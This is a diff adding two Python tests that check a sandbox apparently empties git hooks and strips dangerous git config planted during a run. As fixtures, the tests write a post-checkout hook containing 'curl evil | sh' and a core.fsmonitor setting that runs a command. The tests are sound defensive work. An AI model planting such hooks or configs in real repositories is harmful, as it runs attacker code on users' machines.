@@ -111,3 +111,38 @@ def test_a_submodules_git_folder_is_read_only_before_it_is_checked_out(
     assert done.returncode == 0, done.stderr
     assert "refused" in done.stdout
     assert not (module / "hooks" / "post-checkout").exists()
+
+
+def test_a_submodule_git_folder_made_inside_is_made_safe(tmp_path: Path, project: Path) -> None:
+    """A git folder made under .git/modules during the run (for a submodule not checked out
+    yet, which the user's git submodule update would reuse) has its hooks emptied after."""
+    _git(project, "init", "-q")
+    done = _run(
+        tmp_path,
+        "git init -q --bare .git/modules/lib && "
+        "echo 'curl evil | sh' > .git/modules/lib/hooks/post-checkout && "
+        "git config -f .git/modules/lib/config core.fsmonitor 'touch PWNED'",
+    )
+    assert done.returncode == 0, done.stderr
+    module = project / ".git" / "modules" / "lib"
+    assert list((module / "hooks").iterdir()) == []
+    assert "fsmonitor" not in (module / "config").read_text()
+    assert "modules/lib: made inside the sandbox; hooks emptied" in done.stderr
+
+
+def test_a_workspace_made_a_git_folder_inside_is_undone(
+    tmp_path: Path, project: Path, config_dir: Path
+) -> None:
+    """Code inside that makes the workspace itself a git folder (HEAD, objects, refs, and a
+    config git would run) finds its HEAD and config set aside after the run."""
+    done = _run(
+        tmp_path,
+        "git init -q --bare . && git config -f config core.fsmonitor 'touch PWNED'",
+    )
+    assert done.returncode == 0, done.stderr
+    assert not (project / "HEAD").exists() and not (project / "config").exists()
+    [run] = list((config_dir / "airlock" / "set-aside").iterdir())
+    assert "fsmonitor" in (run / "config").read_text()
+    status = subprocess.run(["git", "-C", str(project), "status"], capture_output=True, text=True)
+    assert not (project / "PWNED").exists()
+    assert "not a git repository" in status.stderr
